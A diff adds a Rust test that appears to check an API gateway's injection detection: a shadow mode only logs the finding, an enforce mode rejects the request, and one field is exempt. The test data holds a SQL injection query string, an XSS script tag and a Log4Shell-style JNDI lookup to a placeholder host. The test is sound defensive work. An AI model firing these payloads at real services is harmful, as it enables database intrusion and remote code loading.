@@ -223,3 +223,30 @@ async fn each_kind_takes_its_own_types() {
     check_problem(&post(&gateway, "text/plain", "hi").await, 415, "unsupported_media_type");
     assert_eq!(heard.count(), 4);
 }
+
+#[tokio::test]
+async fn attacks_are_told_first_and_refused_where_that_is_asked_for() {
+    let (watching, heard) = gateway(json!([{"name": "i", "injection": {}}])).await;
+    let attack = "GET /search?q=1%27%20OR%20%271%27%3D%271";
+    let answer = ask(watching.address, attack, &[], "").await;
+    assert_eq!((status(&answer), heard.count()), (200, 1));
+    let id = field(&answer, "x-request-id").unwrap().parse().unwrap();
+    let told = until_some(async || watching.proxy.exchange(id).await).await;
+    assert_eq!(told.shadow, ["i: sqli in query/q".into()]);
+
+    let words = json!({"mode": "enforce", "exceptions": [{"in": "body", "pointer": "/code"}]});
+    let (guarded, heard) = gateway(json!([{"name": "i", "injection": words}])).await;
+    let answer = ask(guarded.address, attack, &[], "").await;
+    check_problem(&answer, 400, "validation_failed");
+    let error = &problem(&answer)["errors"][0];
+    assert_eq!((&error["in"], &error["pointer"], &error["rule"]), (&json!("query"), &json!("/q"), &json!("sqli")));
+    let script = json!({"code": "<script>alert(1)</script>"}).to_string();
+    assert_eq!(status(&post(&guarded, JSON, &script).await), 200);
+    check_problem(&post(&guarded, JSON, script.replace("code", "text")).await, 400, "validation_failed");
+    check_problem(
+        &ask(guarded.address, "GET /", &["user-agent: ${jndi:ldap://x.test/a}"], "").await,
+        400,
+        "validation_failed",
+    );
+    assert_eq!(heard.count(), 1);
+}
